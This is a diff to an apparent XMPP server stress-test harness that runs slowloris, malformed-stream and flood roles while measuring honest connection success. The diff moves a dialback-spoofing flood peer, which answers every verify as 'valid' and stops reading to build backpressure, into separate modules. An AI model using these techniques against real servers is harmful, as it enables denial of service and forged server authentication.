@@ -24,7 +24,8 @@ time (everything stops after --duration seconds, by itself):
               --honest-interval seconds: a correct header from --honest-from;
               success = <stream:features/> arrives within 10 s.
 
-Each role runs in a process of its own (the slowloris sockets shared by
+The flood peer is flood.py; what the roles share is streamlib.py. Each role
+runs in a process of its own (the slowloris sockets shared by
 --workers processes), the crowd's niced by --crowd-nice, so the crowd's work
 neither delays the honest side's measurements nor starves the daemon of CPU
 on a small machine.
@@ -41,25 +42,17 @@ import json
 import multiprocessing
 import os
 import random
-import re
 import socket
 import ssl
 import sys
 import time
-import xml.etree.ElementTree as ET
 
-NS_STREAMS = "http://etherx.jabber.org/streams"
-NS_TLS = "urn:ietf:params:xml:ns:xmpp-tls"
-NS_DIALBACK = "jabber:server:dialback"
-PROLOG = b"<?xml version='1.0'?>"
-CONDITION = re.compile(rb"<([a-z-]+)\s+xmlns=['\"]urn:ietf:params:xml:ns:xmpp-streams['\"]\s*/>")
+from flood import FloodServer, flood
+from streamlib import (PROLOG, close_writer, condition_of, connect, count, header, percentile,
+                       read_all)
+
 OPEN_TIMEOUT = 10.0     # honest open: seconds to get <stream:features/>
 MALFORMED_WAIT = 5.0    # malformed: seconds to wait for the daemon's close
-
-
-def header(frm, to, extra=""):
-    return ("<stream:stream xmlns='jabber:server' xmlns:stream='%s' xmlns:db='%s'"
-            " from='%s' to='%s' version='1.0'%s>" % (NS_STREAMS, NS_DIALBACK, frm, to, extra)).encode()
 
 
 def address_range(spec):
@@ -71,23 +64,6 @@ def address_range(spec):
     if not low <= high <= 255:
         raise ValueError("bad address range %r" % spec)
     return [str(ipaddress.IPv4Address(int(start) - low + i)) for i in range(low, high + 1)]
-
-
-def condition_of(data):
-    """The stream error condition the daemon sent, or None."""
-    m = CONDITION.search(data)
-    return m.group(1).decode() if m else None
-
-
-def percentile(values, p):
-    if not values:
-        return 0.0
-    s = sorted(values)
-    return s[min(len(s) - 1, int(round(p / 100.0 * (len(s) - 1))))]
-
-
-def count(table, key, n=1):
-    table[key] = table.get(key, 0) + n
 
 
 class Run:
@@ -118,39 +94,8 @@ class Run:
         return time.monotonic() >= self.stop_at
 
 
-async def connect(run, host, port, source):
-    return await asyncio.wait_for(
-        asyncio.open_connection(host, port, local_addr=(source, 0) if source else None), 5)
-
-
-async def close_writer(writer):
-    try:
-        writer.close()
-        await asyncio.wait_for(writer.wait_closed(), 1)
-    except (OSError, asyncio.TimeoutError, ssl.SSLError):
-        pass
-
-
-async def read_all(reader, data, seconds):
-    """Read into the bytearray `data` until EOF (True) or `seconds` (False)."""
-    end = time.monotonic() + seconds
-    while True:
-        left = end - time.monotonic()
-        if left <= 0:
-            return False
-        try:
-            chunk = await asyncio.wait_for(reader.read(65536), left)
-        except asyncio.TimeoutError:
-            return False
-        except (OSError, ssl.SSLError):
-            return True
-        if not chunk:
-            return True
-        if len(data) < 65536:
-            data += chunk[:65536 - len(data)]
-
-
 # ---- slowloris ------------------------------------------------------------------
+
 
 async def slowloris_one(run, source):
     a, st = run.args, run.stats["slowloris"]
@@ -159,7 +104,7 @@ async def slowloris_one(run, source):
     await asyncio.sleep(random.uniform(0, a.ramp))
     while not run.stopping():
         try:
-            reader, writer = await connect(run, a.host, a.port, source)
+            reader, writer = await connect(a.host, a.port, source)
         except (OSError, asyncio.TimeoutError):
             st["connect_errors"] += 1
             await asyncio.sleep(a.reconnect * random.uniform(0.5, 1.5))
@@ -192,6 +137,7 @@ async def slowloris_one(run, source):
 
 
 # ---- malformed streams -------------------------------------------------------------
+
 
 def kind_random(a, rng):
     return [rng.randbytes(rng.randint(64, 4096))], a.port
@@ -239,7 +185,7 @@ async def malformed_one(run, i, source, gate):
     parts, port = make(a, random.Random(a.seed * 100003 + i))
     try:
         try:
-            reader, writer = await connect(run, a.host, port, source)
+            reader, writer = await connect(a.host, port, source)
         except (OSError, asyncio.TimeoutError):
             st["connect_errors"] += 1
             count(st["outcomes"], "connect-failed")
@@ -289,217 +235,8 @@ async def malformed_all(run, sources):
         await asyncio.wait(tasks)
 
 
-# ---- a minimal XML stream reader (for the flood peer and its server) ------------
-
-class XmlStream:
-    """Stanzas (depth-1 elements) from a byte stream; restart() after TLS."""
-
-    def __init__(self, reader):
-        self.reader = reader
-        self.restart()
-
-    def restart(self):
-        self.parser = ET.XMLPullParser(events=("start", "end"))
-        self.depth = 0
-        self.root = None
-        self.header = None
-
-    def set_reader(self, reader):
-        self.reader = reader
-
-    async def next(self, seconds):
-        """The next event: ('header', attrs) or ('stanza', element); None on EOF."""
-        end = time.monotonic() + seconds
-        while True:
-            for ev, el in self.parser.read_events():
-                if ev == "start":
-                    self.depth += 1
-                    if self.depth == 1:
-                        self.root = el
-                        return ("header", dict(el.attrib))
-                else:
-                    self.depth -= 1
-                    if self.depth == 1:
-                        self.root.remove(el)
-                        return ("stanza", el)
-            left = end - time.monotonic()
-            if left <= 0:
-                raise asyncio.TimeoutError()
-            chunk = await asyncio.wait_for(self.reader.read(65536), left)
-            if not chunk:
-                return None
-            self.parser.feed(chunk)
-
-    async def stanza(self, seconds):
-        while True:
-            ev = await self.next(seconds)
-            if ev is None:
-                return None
-            if ev[0] == "stanza":
-                return ev[1]
-
-
-def tag(ns, name):
-    return "{%s}%s" % (ns, name)
-
-
-def stream_error_text(el):
-    for child in el:
-        if child.tag.endswith("}text"):
-            continue
-        return child.tag.split("}")[-1]
-    return "unknown"
-
-
-# ---- the flood peer's own server (answers the daemon's dialback) ---------------
-
-class FloodServer:
-    """attacker.example's server: answers every db:verify and db:result with
-    'valid', and stops reading the stream that carries the daemon's replies
-    once the flood peer is authenticated."""
-
-    def __init__(self, run, tls_ctx):
-        self.run = run
-        self.tls_ctx = tls_ctx
-        self.flood_authenticated = asyncio.Event()
-
-    async def handle(self, reader, writer):
-        a, st = self.run.args, self.run.stats["flood"]
-        xs = XmlStream(reader)
-        answered_result = False
-        tls = False
-        try:
-            while not self.run.stopping():
-                if answered_result and self.flood_authenticated.is_set():
-                    break
-                try:
-                    ev = await xs.next(max(0.1, min(1.0, self.run.left())))
-                except asyncio.TimeoutError:
-                    continue
-                if ev is None:
-                    st["outbound_closed"] = True
-                    return
-                if ev[0] == "header":
-                    starttls = ("<starttls xmlns='%s'/>" % NS_TLS) if self.tls_ctx and not tls else ""
-                    writer.write(("<?xml version='1.0'?><stream:stream xmlns='jabber:server'"
-                                  " xmlns:stream='%s' xmlns:db='%s' from='%s' to='%s' id='%s'"
-                                  " version='1.0'><stream:features>%s<dialback xmlns="
-                                  "'urn:xmpp:features:dialback'/></stream:features>"
-                                  % (NS_STREAMS, NS_DIALBACK, a.flood_domain, ev[1].get("from", ""),
-                                     os.urandom(8).hex(), starttls)).encode())
-                    continue
-                el = ev[1]
-                if el.tag == tag(NS_TLS, "starttls") and self.tls_ctx:
-                    writer.write(("<proceed xmlns='%s'/>" % NS_TLS).encode())
-                    await writer.drain()
-                    await asyncio.wait_for(writer.start_tls(self.tls_ctx), 10)
-                    tls = True
-                    xs.restart()
-                elif el.tag == tag(NS_DIALBACK, "verify"):
-                    writer.write(("<db:verify from='%s' to='%s' id='%s' type='valid'/>"
-                                  % (el.get("to"), el.get("from"), el.get("id"))).encode())
-                elif el.tag == tag(NS_DIALBACK, "result"):
-                    writer.write(("<db:result from='%s' to='%s' type='valid'/>"
-                                  % (el.get("to"), el.get("from"))).encode())
-                    answered_result = True
-                elif el.tag == tag(NS_STREAMS, "error"):
-                    st["outbound_condition"] = stream_error_text(el)
-            if answered_result:
-                # never read again: the daemon's replies pile up on its side
-                st["listener_reading_stopped"] = True
-                while not self.run.stopping():
-                    await asyncio.sleep(min(1.0, max(0.05, self.run.left())))
-        except (OSError, asyncio.TimeoutError, ssl.SSLError, ET.ParseError):
-            st["outbound_closed"] = True
-        finally:
-            await close_writer(writer)
-
-
-async def flood(run, server):
-    a, st = run.args, run.stats["flood"]
-    try:
-        reader, writer = await connect(run, a.host, a.port, a.flood_source)
-    except (OSError, asyncio.TimeoutError) as e:
-        st["auth_error"] = "cannot connect: %s" % e
-        return
-    xs = XmlStream(reader)
-    try:
-        writer.write(PROLOG + header(a.flood_domain, a.to))
-        tls = False
-        while True:
-            ev = await xs.next(15)
-            if ev is None:
-                st["auth_error"] = "daemon closed the stream before dialback"
-                return
-            if ev[0] == "header":
-                continue
-            el = ev[1]
-            if el.tag == tag(NS_STREAMS, "error"):
-                st["auth_error"] = "stream error " + stream_error_text(el)
-                return
-            if el.tag == tag(NS_STREAMS, "features"):
-                if not tls and el.find(tag(NS_TLS, "starttls")) is not None:
-                    writer.write(("<starttls xmlns='%s'/>" % NS_TLS).encode())
-                    el = await xs.stanza(15)
-                    if el is None or el.tag != tag(NS_TLS, "proceed"):
-                        st["auth_error"] = "no <proceed/> to STARTTLS"
-                        return
-                    ctx = ssl.create_default_context()
-                    ctx.check_hostname = False
-                    ctx.verify_mode = ssl.CERT_NONE
-                    await asyncio.wait_for(writer.start_tls(ctx, server_hostname=a.to), 10)
-                    xs.restart()
-                    tls = True
-                    writer.write(PROLOG + header(a.flood_domain, a.to))
-                    continue
-                writer.write(("<db:result from='%s' to='%s'>%s</db:result>"
-                              % (a.flood_domain, a.to, os.urandom(32).hex())).encode())
-                continue
-            if el.tag == tag(NS_DIALBACK, "result"):
-                if el.get("type") != "valid":
-                    st["auth_error"] = "dialback answered type=%s" % el.get("type")
-                    return
-                break
-        st["authenticated"] = True
-        server.flood_authenticated.set()
-        watch = asyncio.ensure_future(xs.next(max(0.1, run.left())))
-        filler = "x" * a.flood_id_bytes
-        for i in range(a.flood_pings):
-            if run.stopping() or watch.done():
-                break
-            writer.write(("<iq type='get' id='%d-%s' from='%s' to='%s'><ping xmlns='urn:xmpp:ping'/></iq>"
-                          % (i, filler, a.flood_domain, a.to)).encode())
-            st["pings_sent"] += 1
-            st["bytes_sent"] += a.flood_id_bytes + 120
-            began = time.monotonic()
-            done, _ = await asyncio.wait([asyncio.ensure_future(writer.drain()), watch],
-                                         timeout=max(0.05, run.left()),
-                                         return_when=asyncio.FIRST_COMPLETED)
-            st["send_stalled_s"] = round(max(st["send_stalled_s"], time.monotonic() - began), 2)
-            if watch in done:
-                break
-        if not watch.done():
-            await asyncio.wait([watch], timeout=max(0.0, run.left()))
-        if watch.done() and not watch.cancelled():
-            exc = watch.exception()
-            ev = None if exc else watch.result()
-            if ev is None or exc:
-                st["inbound_closed"] = True
-            elif ev[0] == "stanza" and ev[1].tag == tag(NS_STREAMS, "error"):
-                st["inbound_closed"] = True
-                st["inbound_condition"] = stream_error_text(ev[1])
-        else:
-            watch.cancel()
-    except (OSError, asyncio.TimeoutError, ssl.SSLError, ET.ParseError) as e:
-        if not st["authenticated"]:
-            st["auth_error"] = st["auth_error"] or "%s: %s" % (type(e).__name__, e)
-        else:
-            st["inbound_closed"] = True
-    finally:
-        await close_writer(writer)
-
-
 # ---- honest opens ---------------------------------------------------------------
+
 
 async def honest_one(run, seq):
     a, st = run.args, run.stats["honest"]
@@ -507,7 +244,7 @@ async def honest_one(run, seq):
     outcome = None
     data = bytearray()
     try:
-        reader, writer = await connect(run, a.host, a.port, a.honest_source)
+        reader, writer = await connect(a.host, a.port, a.honest_source)
     except (OSError, asyncio.TimeoutError) as e:
         outcome = "connect-failed (%s)" % (e.__class__.__name__)
     if outcome is None:
@@ -567,6 +304,7 @@ async def honest_all(run):
 
 
 # ---- one process per role ---------------------------------------------------------
+
 
 async def supervise(run, role, tasks, label):
     """Wait for the role's tasks (bounded by --duration + --grace), printing
